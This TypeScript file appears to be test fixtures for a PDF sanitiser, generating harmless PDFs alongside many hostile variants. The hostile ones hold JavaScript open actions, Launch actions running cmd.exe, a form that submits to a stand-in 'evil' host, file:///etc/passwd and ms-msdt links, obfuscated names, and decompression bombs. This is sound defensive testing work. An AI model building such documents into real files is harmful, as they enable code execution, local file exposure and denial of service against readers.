import { deflateSync } from 'node:zlib';
import {
  decodePDFRawStream,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFStream,
  PDFString,
  StandardFonts,
} from '@cantoo/pdf-lib';

/** A harmless PDF of some pages. */
export const aPdf = async (pages = 1): Promise<Buffer> => {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= pages; page += 1)
    document.addPage([595, 842]).drawText(`page ${page}`, { x: 50, y: 700, font });
  return Buffer.from(await document.save());
};

const body = (objects: readonly string[]) =>
  objects.map((text, index) => `${index + 4} 0 obj\n${text}\nendobj\n`).join('');

/** A PDF written by hand: `catalog` goes into the catalogue, `objects` are numbered from 4, `page` goes into the page. */
export const rawPdf = (parts: { catalog?: string; page?: string; objects?: string[]; trailer?: string }): Buffer => {
  const { catalog = '', page = '', objects = [], trailer = '' } = parts;
  return Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n` +
      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>\nendobj\n${body(objects)}` +
      `trailer\n<< /Root 1 0 R /Size ${objects.length + 4} ${trailer} >>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  );
};

const SCRIPT = "app.alert('hello')";

/** An action as some object of the document, packed into an object stream by pdf-lib. */
const packedAction = async (action: Record<string, PDFName | PDFString>): Promise<Buffer> => {
  const document = await PDFDocument.create();
  const link = document.context.obj({ Subtype: 'Link', A: action });
  document.addPage().node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
  const bytes = Buffer.from(await document.save({ useObjectStreams: true }));
  if (bytes.includes('/Link')) throw new Error('the action is not packed');
  return bytes;
};

const named = PDFName.of('Named');
const link = PDFName.of('URI');

/** Links that a reader may follow to a file, a program or a script, each as it can stand in a PDF (T-89). */
const LINKS = [
  '(file:///etc/passwd)',
  '(FILE:/etc/passwd)',
  '(\\001fi\\nle:x)',
  `<${Buffer.from('\ufefffile:///etc/passwd', 'utf16le').swap16().toString('hex')}>`,
  '(data:text/html,x)',
  '(vbscript:x)',
  '(jar:https://example.org/a!/b)',
  '(ms-msdt:/id)',
  '(search-ms:query=x)',
  '(smb://example.org/a)',
  '(ftp://example.org/a)',
  '(tel:119)',
  '(blob:https://example.org/1)',
  '(view-source:https://example.org)',
  '(C:\\\\Windows\\\\a.exe)',
  '(\\\\\\\\example.org\\\\share)',
  '(//example.org/share)',
  '(java script :x)',
];

/** Links that lead to pages and mailboxes, and turning pages. */
export const harmlessPdfs = async (): Promise<[string, Buffer][]> => [
  ...['(https://example.org/a:b?c=d:e)', '(HTTP://example.org)', '(mailto:a@example.org)', '(a/b:c.html)', '(#p2)'].map(
    (uri): [string, Buffer] => [uri, rawPdf({ page: `/Annots [<< /Subtype /Link /A << /S /URI /URI ${uri} >> >>]` })],
  ),
  ['next page', rawPdf({ page: '/Annots [<< /Subtype /Link /A << /S /Named /N /NextPage >> >>]' })],
  ['opens on its last page', rawPdf({ catalog: '/OpenAction << /S /Named /N /LastPage >>' })],
  ['packed link', await packedAction({ S: link, URI: PDFString.of('https://example.org') })],
];

const attached = async (): Promise<Buffer> => {
  const document = await PDFDocument.create();
  document.addPage();
  await document.attach(Buffer.from('hello'), 'a.txt', { mimeType: 'text/plain' });
  return Buffer.from(await document.save());
};

const stream = (dict: string, bytes: Buffer) =>
  `<< ${dict} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;

/** A stream that unpacks to `megabytes`. */
const bomb = (megabytes: number, dict = '/Filter /FlateDecode', head = '') =>
  stream(dict, deflateSync(Buffer.concat([Buffer.from(head), Buffer.alloc(megabytes * 1024 * 1024)]), { level: 9 }));

/** Documents with something in them that runs, hides a file, or eats the reader. */
export const hostilePdfs = async (): Promise<[string, Buffer][]> => [
  ['open action', rawPdf({ catalog: `/OpenAction << /S /JavaScript /JS (${SCRIPT}) >>` })],
  ['escaped names', rawPdf({ catalog: `/Open#41ction << /#53 /Java#53cript /J#53 (${SCRIPT}) >>` })],
  ['by reference', rawPdf({ catalog: '/OpenAction 4 0 R', objects: [`<< /S /JavaScript /JS (${SCRIPT}) >>`] })],
  ['kind by reference', rawPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S 5 0 R >>', '/JavaScript'] })],
  [
    'kind through references',
    rawPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S 5 0 R >>', '6 0 R', '7 0 R', '/JavaScript'] }),
  ],
  ['script through references', rawPdf({ objects: ['<< /JS 5 0 R >>', '6 0 R', `(${SCRIPT})`] })],
  ['page actions through references', rawPdf({ page: '/AA 4 0 R', objects: ['5 0 R', '<< /O << /S /Named >> >>'] })],
  ['link that runs', rawPdf({ page: `/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:${SCRIPT}) >> >>]` })],
  [
    'link that runs, in disguise',
    rawPdf({ objects: ['<< /S /URI /URI 5 0 R >>', '6 0 R', '(\\001 Java\\nScript:x)'] }),
  ],
  ['link that runs, in hex', rawPdf({ objects: [`<< /URI <${Buffer.from('vbscript:x').toString('hex')}> >>`] })],
  ['base that runs', rawPdf({ catalog: '/URI << /Base (data:text/html,x) >>' })],
  [
    'names tree',
    rawPdf({ catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${SCRIPT}) >>] >> >>` }),
  ],
  ['script without a kind', rawPdf({ objects: [`<< /JS (${SCRIPT}) >>`] })],
  ['script as a stream', rawPdf({ objects: ['<< /JS 5 0 R >>', stream('', Buffer.from(SCRIPT))] })],
  ['page actions', rawPdf({ page: '/AA << /O << /S /Named /N /NextPage >> >>' })],
  ['launch', rawPdf({ page: '/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]' })],
  ['form that sends', rawPdf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil) >> >>]' })],
  ['another file', rawPdf({ page: '/Annots [<< /Subtype /Link /A << /S /GoToR /F (other.pdf) >> >>]' })],
  ['rich media', rawPdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia >>]' })],
  ['XFA', rawPdf({ catalog: '/AcroForm << /XFA [(a) (b)] >>' })],
  ['chained action', rawPdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a) >> >>' })],
  ['in an array', rawPdf({ objects: [`[[[ << /S /JavaScript /JS (${SCRIPT}) >> ]]]`] })],
  ['attachment', await attached()],
  ['packed', await packedAction({ S: PDFName.of('JavaScript'), JS: PDFString.of(SCRIPT) })],
  ...LINKS.map((uri): [string, Buffer] => [
    `link ${uri}`,
    rawPdf({ page: `/Annots [<< /Subtype /Link /A << /S /URI /URI ${uri} >> >>]` }),
  ]),
  ['base of files', rawPdf({ catalog: '/URI << /Base (file:///) >>' })],
  ['packed link to a file', await packedAction({ S: link, URI: PDFString.of('file:///etc/passwd') })],
  ['packed launch', await packedAction({ S: PDFName.of('Launch'), F: PDFString.of('cmd.exe') })],
  ['packed other file', await packedAction({ S: PDFName.of('GoToR'), F: PDFString.of('other.pdf') })],
  ['prints', rawPdf({ catalog: '/OpenAction << /S /Named /N /Print >>' })],
  ['packed printing', await packedAction({ S: named, N: PDFName.of('Print') })],
  ['saves, in disguise', rawPdf({ objects: ['<< /S 5 0 R /N 6 0 R >>', '/N#61med', '/Save#41s'] })],
  ['named by nothing', rawPdf({ objects: ['<< /S /Named >>'] })],
  ['thread of another file', rawPdf({ objects: ['<< /S /Thread /F (other.pdf) /D 0 >>'] })],
  ['encrypted', rawPdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a) (b)]' })],
  ['bomb', rawPdf({ page: '/Contents 4 0 R', objects: [bomb(300)] })],
  ['packed bomb', rawPdf({ objects: [bomb(300, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '9 0 ')] })],
  [
    'bomb in a bomb',
    rawPdf({
      objects: [stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(9_000_000))))],
    }),
  ],
  ['no pages', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF')],
  ['nothing', Buffer.from('%PDF-1.7\n%%EOF')],
  ['noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(200_000, 'xo <<[( 1 0 obj ')])],
];

/** A paper as scanners and phones make it: photos that know where they were taken, and who wrote it with what. */
export const aTaggedPdf = async (photo: Buffer, secret: string): Promise<Buffer> => {
  const document = await PDFDocument.create();
  const { context } = document;
  const page = document.addPage();
  page.drawImage(await document.embedJpg(photo), { width: 300, height: 200 });
  const packed = context.stream(deflateSync(photo), {
    Type: 'XObject',
    Subtype: 'Image',
    Filter: ['FlateDecode', 'DCTDecode'],
    Width: 1200,
    Height: 800,
    ColorSpace: 'DeviceRGB',
    BitsPerComponent: 8,
  });
  page.node.setXObject(PDFName.of('Packed'), context.register(packed));
  const notes = () =>
    context.register(context.stream(`<x:xmpmeta>${secret}</x:xmpmeta>`, { Type: 'Metadata', Subtype: 'XML' }));
  document.catalog.set(PDFName.of('Metadata'), notes());
  page.node.set(PDFName.of('Metadata'), notes());
  page.node.set(PDFName.of('PieceInfo'), context.obj({ Tool: { Private: PDFString.of(secret) } }));
  context.register(context.obj({ Author: PDFString.of(secret), Note: PDFString.of('of an earlier version') }));
  document.setAuthor(secret);
  document.setTitle(secret);
  document.setCreator(secret);
  document.setProducer(secret);
  document.setKeywords([secret]);
  return Buffer.from(await document.save({ useObjectStreams: false }));
};

/** All that a document holds, unpacked: its photos as they are, everything else as text. */
export const contentsOf = async (bytes: Uint8Array) => {
  const { context } = await PDFDocument.load(bytes, { updateMetadata: false });
  const streams = context
    .enumerateIndirectObjects()
    .flatMap(([, object]) => (object instanceof PDFRawStream ? [object] : []));
  const isPhoto = ({ dict }: PDFRawStream) => String(dict.get(PDFName.of('Filter'))) === '/DCTDecode';
  const photos = streams.filter(isPhoto).map(({ contents }) => Buffer.from(contents));
  const objects = context
    .enumerateIndirectObjects()
    .map(([, object]) => (object instanceof PDFStream ? object.dict : object));
  const unpacked = streams.filter((one) => !isPhoto(one)).map((one) => Buffer.from(decodePDFRawStream(one).decode()));
  const text = [...objects.map(String), ...unpacked.map((one) => one.toString('latin1'))].join('\n');
  return { photos, text: text + JSON.stringify(String(context.trailerInfo.Info ?? '')) };
};
